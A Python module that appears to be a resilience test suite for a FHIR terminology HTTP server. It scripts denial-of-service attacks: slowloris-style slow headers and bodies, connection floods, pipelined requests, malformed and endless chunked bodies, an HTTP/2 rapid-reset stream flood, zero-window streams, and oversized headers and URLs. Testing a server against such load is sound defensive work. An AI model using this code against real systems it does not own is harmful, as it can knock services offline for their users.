"""Attacks by what is sent before, between and without whole requests: connections, heads and chunks."""

from __future__ import annotations

from contextlib import suppress
from itertools import count

from attacker import (
    EXPAND,
    JSON,
    LOOKUP,
    MANY_CONNECTIONS,
    MEGABYTE,
    POST_START,
    SYSTEM,
    Attacker,
    attack,
    code_system,
    head,
    holding,
    parameters,
    value_set,
)

# -- slow, silent and many connections ----------------------------------------------------------


def _slow_bodies(attacker: Attacker, number: int) -> None:
    connections = attacker.hold(number, POST_START)
    while attacker.seconds_left:
        for connection in connections:
            with suppress(OSError):
                connection.sendall(b" ")
        attacker.pause(1)


@holding
def four_slow_bodies(attacker: Attacker) -> None:
    """Send four bodies at one byte a second."""
    _slow_bodies(attacker, 4)


@holding
def sixteen_slow_bodies(attacker: Attacker) -> None:
    """Send sixteen bodies at one byte a second."""
    _slow_bodies(attacker, 16)


@holding
def slow_bodies_again_and_again(attacker: Attacker) -> None:
    """Begin a hundred bodies and leave them unfinished, again wherever the server closes one."""

    def unfinished() -> None:
        connection = attacker.connect()
        connection.sendall(POST_START)
        connection.recv(1)

    attacker.repeat(100, unfinished)


@holding
def half_sent_headers(attacker: Attacker) -> None:
    """Open 1,024 connections and send half a header over each."""
    attacker.hold(MANY_CONNECTIONS, head("GET", LOOKUP + "male") + b"X-Half: ")


@holding
def idle_connections(attacker: Attacker) -> None:
    """Open 1,024 connections and send nothing."""
    attacker.hold(MANY_CONNECTIONS, b"")


@holding
def idle_connections_after_a_request(attacker: Attacker) -> None:
    """Ask once over each of 1,024 connections, and keep them."""
    attacker.hold(MANY_CONNECTIONS, head("GET", LOOKUP + "male") + b"\r\n")


@holding
def pipelined_requests(attacker: Attacker) -> None:
    """Send 500 requests at once over each of eight connections, before the first answer."""
    requests = (head("GET", EXPAND + "?url=http://hl7.org/fhir/ValueSet/country") + b"\r\n") * 500

    def play() -> None:
        connection = attacker.connect()
        connection.sendall(requests)
        while connection.recv(65_536):
            pass

    attacker.repeat(8, play)


@attack
def bodies_that_break_off(attacker: Attacker) -> None:
    """Send one of five million bytes and close, eight at once."""
    begin = head("POST", EXPAND, f"Content-Type: {JSON}", "Content-Length: 5000000") + b"\r\n"
    content = b"[" * MEGABYTE
    attacker.repeat(8, lambda: attacker.send(begin, content, read=False))


@holding
def answers_that_nobody_reads(attacker: Attacker) -> None:
    """Ask for answers of five megabytes over twelve connections, and read none."""
    concepts = [{"code": f"c{n}", "display": "x" * 5_000} for n in range(1_000)]
    body = parameters(
        [code_system(concepts), value_set({"system": SYSTEM})], url__Uri="http://example.org/set"
    )
    request = head("POST", EXPAND, f"Content-Type: {JSON}", f"Content-Length: {len(body)}") + b"\r\n" + body

    def play() -> None:
        attacker.connect().sendall(request)
        attacker.pause(5)

    attacker.repeat(12, play)


# -- chunks ---------------------------------------------------------------------------------------

CHUNKED = head("POST", EXPAND, f"Content-Type: {JSON}", "Transfer-Encoding: chunked") + b"\r\n"


@attack
def endless_chunks(attacker: Attacker) -> None:
    """Send chunks of a megabyte over eight connections, without a last one."""
    chunk = b"%x\r\n" % MEGABYTE + b"[" * MEGABYTE + b"\r\n"

    def play() -> None:
        connection = attacker.connect()
        connection.sendall(CHUNKED)
        for _ in range(500):
            if not attacker.seconds_left:
                break
            connection.sendall(chunk)

    attacker.repeat(8, play)


@holding
def slow_chunks(attacker: Attacker) -> None:
    """Send chunks of one byte, one a second, over sixteen connections."""
    connections = attacker.hold(16, CHUNKED)
    while attacker.seconds_left:
        for connection in connections:
            with suppress(OSError):
                connection.sendall(b"1\r\n[\r\n")
        attacker.pause(1)


@holding
def unreadable_chunks(attacker: Attacker) -> None:
    """Send chunks with sizes that are not numbers, negative, huge, or of endless digits."""
    sizes = (b"xyz", b"-1", b"fffffffffffffffff", b"0" * 100_000, b"5;" + b"x" * 100_000, b"")
    turns = count()
    attacker.repeat(8, lambda: attacker.send(CHUNKED, sizes[next(turns) % len(sizes)] + b"\r\nabc\r\n"))


# -- HTTP/2 --------------------------------------------------------------------------------------


def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    return len(content).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + content


def _stream(number: int) -> bytes:
    """A request for an expansion as a stream of HTTP/2: its HPACK has path and authority as literals."""
    path = (EXPAND + "?url=http://hl7.org/fhir/ValueSet/ucum-units").encode()
    return _frame(1, 5, number, b"\x82\x86\x04" + bytes((len(path),)) + path + b"\x01\x09127.0.0.1")


def _http_2(settings: bytes = b"") -> bytes:
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, settings)


@attack
def streams_that_are_reset(attacker: Attacker) -> None:
    """Begin 20,000 streams of HTTP/2 over each of four connections, and reset each at once."""
    cancel = (8).to_bytes(4)
    flood = b"".join(_stream(n) + _frame(3, 0, n, cancel) for n in range(1, 40_001, 2))
    attacker.repeat(4, lambda: attacker.send(_http_2(), flood))


@holding
def streams_without_a_window(attacker: Attacker) -> None:
    """Begin 200 streams of HTTP/2 over each of 16 connections, and take no byte of the answers."""
    no_window = (4).to_bytes(2) + bytes(4)
    streams = b"".join(map(_stream, range(1, 400, 2)))

    def play() -> None:
        attacker.connect().sendall(_http_2(no_window) + streams)
        attacker.pause(5)

    attacker.repeat(16, play)


# -- long heads ---------------------------------------------------------------------------------


@attack
def headers_of_a_megabyte(attacker: Attacker) -> None:
    """Send a header of a megabyte."""
    request = head("GET", LOOKUP + "male", "X-Long: " + "x" * MEGABYTE) + b"\r\n"
    attacker.repeat(8, lambda: attacker.send(request))


@attack
def urls_of_a_megabyte(attacker: Attacker) -> None:
    """Ask for a URL of a megabyte."""
    request = head("GET", LOOKUP + "x" * MEGABYTE) + b"\r\n"
    attacker.repeat(8, lambda: attacker.send(request))


@attack
def ten_thousand_headers(attacker: Attacker) -> None:
    """Send 10,000 headers."""
    request = head("GET", LOOKUP + "male", *(f"X-{n}: 1" for n in range(10_000))) + b"\r\n"
    attacker.repeat(8, lambda: attacker.send(request))


@attack
def ten_thousand_media_ranges(attacker: Attacker) -> None:
    """Accept and prefer 10,000 media types and languages, each time others."""
    turns = count()

    def play() -> None:
        turn = next(turns)
        media = ",".join(f"a/{turn}{n};q=0.1" for n in range(10_000))
        languages = ",".join(f"x-{turn}{n};q=0.1" for n in range(10_000))
        attacker.send(
            head("GET", LOOKUP + "male", f"Accept: {media}") + b"\r\n",
        )
        attacker.send(head("GET", LOOKUP + "male", f"Accept-Language: {languages}") + b"\r\n")

    attacker.repeat(4, play)
